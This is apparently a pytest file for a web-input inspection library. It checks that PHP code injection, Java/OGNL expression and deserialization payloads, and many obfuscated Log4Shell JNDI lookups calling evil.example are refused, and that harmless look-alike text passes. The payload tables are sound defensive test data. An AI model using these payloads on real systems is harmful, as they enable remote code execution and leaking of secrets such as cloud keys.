"""Code, wrappers, objects and lookups are refused, and talk of them passes."""

import pytest

from groupz_shield.signatures.assembly import inspector_of
from groupz_shield.signatures.settings import Signatures
from groupz_shield.signatures.vocabulary import Family, Place, Value

INSPECTOR = inspector_of(Signatures())

PHP = r"""
<?php phpinfo(); ?>
<?= `id` ?>
<? system($_GET['a']); ?>
<?PHP echo 7;
%3C%3Fphp%20echo%207%3B
<script language="php">echo 7;</script>
php://filter/convert.base64-encode/resource=index.php
php://filter/read=string.rot13/resource=a
pHp://FilTer/resource=a
php://input
phar://upload/a.jpg/a
expect://id
zip://a.jpg%23a
glob:///srv/*
compress.zlib:///srv/a
data://text/plain;base64,PD9waHAgZWNobyA3Oz8+
data:text/plain,<?php echo 7;
$_GET['a']
$_SERVER["HTTP_X"]
${_POST}
GLOBALS[a]=1
_SESSION[admin]=1
system('id');
system("id")
exec($a)
eval($_POST[a]);
eval(base64_decode('aQ=='))
assert('phpinfo()')
phpinfo()
phpinfo ( )
shell_exec('id')
passthru("id");
call_user_func('system','id')
array_map('system', array('id'))
preg_replace('/a/e','system("id")','a')
file_get_contents('/srv/a')
file_put_contents("a.php","a")
create_function('','id')
unserialize($a)
$a='sys'.'tem';$a('id');
('system')('id')
$a = "id"; `$a`;
${phpinfo()}
${@print(7)}
O:8:"stdClass":0:{}
O:+8:"stdClass":1:{s:1:"a";i:1;}
C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}
a:1:{i:0;O:1:"A":0:{}}
Tzo4OiJzdGRDbGFzcyI6MDp7fQ==
auto_prepend_file=php://input
-d allow_url_include=1 -d auto_prepend_file=php://input
disable_functions=
php_value auto_append_file /srv/a
include('/srv/a.php');
require_once "a.php";
include $_GET[a];
"""
JAVA = r"""
java.lang.Runtime.getRuntime().exec("id")
Runtime.getRuntime().exec("id")
new java.lang.ProcessBuilder("id").start()
new ProcessBuilder({"id"})
java.lang.ProcessBuilder
${T(java.lang.Runtime).getRuntime().exec("id")}
''.getClass().forName('java.lang.Runtime')
%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}
%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}
${#_memberAccess["allowStaticMethodAccess"]=true}
redirect:${7*7}
redirect:%{#a}
class.module.classLoader.resources.context.parent.pipeline.first.pattern=a
class.module.classLoader.DefaultAssertionStatus=true
class['module']['classLoader']['resources']
class.classLoader.URLs[0]=a
rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==
aced0005737200
ac ed 00 05 73 72
org.apache.commons.collections.functors.InvokerTransformer
com.sun.rowset.JdbcRowSetImpl
org.springframework.context.support.ClassPathXmlApplicationContext
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://a"}
javax.script.ScriptEngineManager
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]
<java.beans.XMLDecoder>
freemarker.template.utility.Execute
"""
JNDI = r"""
${jndi:ldap://203.0.113.9/a}
${jndi:ldaps://evil.example/a}
${jndi:rmi://evil.example/a}
${jndi:dns://evil.example}
${JNDI:LDAP://evil.example/a}
${ jndi : ldap://evil.example/a}
$%7Bjndi:ldap://evil.example/a%7D
%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%257D
\u0024\u007bjndi:ldap://evil.example/a}
&#36;&#123;jndi:ldap://evil.example/a}
${${lower:j}ndi:ldap://evil.example/a}
${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://evil.example/a}
${${upper:j}ndi:${upper:l}dap://evil.example/a}
${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}
${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap${env:X:-:}//evil.example/a}
${${sys:X:-j}ndi:ldap://evil.example/a}
${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}
${j${k8s:k5:-ND}i:ldap://evil.example/a}
${j${main:\k5:-Nd}i${spring:k5:-:}ldap://evil.example/a}
${jnd${upper:i}:ldap://evil.example/a}
${${-:-j}ndi:ldap://evil.example/a}
${${${:-j}}ndi:ldap://evil.example/a}
${jndi:${lower:l}${lower:d}a${lower:p}://${env:HOSTNAME}.evil.example/a}
${env:AWS_SECRET_ACCESS_KEY}
${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGV9}
"""
TABLES = {
    Family.PHP_INJECTION: PHP,
    Family.JAVA_INJECTION: JAVA,
    Family.LOOKUP_INJECTION: JNDI,
}
ATTACKS = [
    (family, attack)
    for family, table in TABLES.items()
    for attack in table.strip("\n").split("\n")
]

HONEST = r"""
We include "lunch" and require "proof" of payment.
we include $5 for lunch; we require $10
De leerlingen die ("vrijwillig") komen, eten mee
per mail ("info") of per post
per mail (graag); wij bellen terug
The system (of mail) and die (we)
Het systeem ("SOM") werkt
PHP & MySQL; php | java | python
cursus PHP: de taal; PHP 8.3
Echo system in the hall
$100 ("early bird") per group; get $$money$$ now
Prices: $a = cheap; $5 = cheaper
${amount}, ${bedrag}, ${user.name} and $(total)
Beste ${naam}: uw groep ${groep} komt om ${tijd}
We visit Java. Lang geleden...
The island of Java; java.example
Runtime: 90 minutes; the run time of the film
new com. chart and new org. chart; a new organisation
the class in module 5; class.module
app.module.css
Button.module.scss
/static/main.module.js
com.alibaba.android.rimet
org.mozilla.firefox
com.ibm.verse
Chevrolet Trax 2015
the transformer of a factory
executive (new)
redirect: the bus goes to the other gate
O: 8 rooms; a:1 b:2; c: 3
globals and locals; the session [1]
safe mode is on; display errors
data:application/pdf;base64,JVBERi0xLjQKJcOkw7zDtsOfCg==
data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==
5 % of it; 100%x; 3 %x (or more)
the jndi of ${amount}
a ldap: the directory; rmi and dns
${date} and ${env}
a6b7c8d9-aced-4005-9e1f-0123456789ab
""".strip("\n").split("\n")


def found(text: str) -> set[Family]:
    place = Place.PATH if text.startswith("/") else Place.FORM
    return {
        finding.family for finding in INSPECTOR.inspect([Value(place, "note", text)])
    }


@pytest.mark.parametrize(("family", "attack"), ATTACKS)
def test_code_for_an_application_is_refused(family: Family, attack: str) -> None:
    assert found(attack), family


@pytest.mark.parametrize("text", HONEST)
def test_talk_of_programs_passes(text: str) -> None:
    assert found(text) == set()


@pytest.mark.parametrize("place", [Place.USER_AGENT, Place.HEADER, Place.COOKIE])
def test_a_lookup_is_refused_wherever_a_log_may_take_it_from(place: Place) -> None:
    value = Value(place, "X-Forwarded-For", "${${lower:j}ndi:ldap://evil.example/a}")

    assert Family.LOOKUP_INJECTION in {
        finding.family for finding in INSPECTOR.inspect([value])
    }


@pytest.mark.parametrize(
    ("attack", "family"),
    [
        ("<?php echo 7;", Family.PHP_INJECTION),
        ("java.lang.Runtime", Family.JAVA_INJECTION),
        ("${jndi:dns://evil.example}", Family.LOOKUP_INJECTION),
    ],
)
def test_an_attack_is_told_as_what_it_is(attack: str, family: Family) -> None:
    assert family in found(attack)
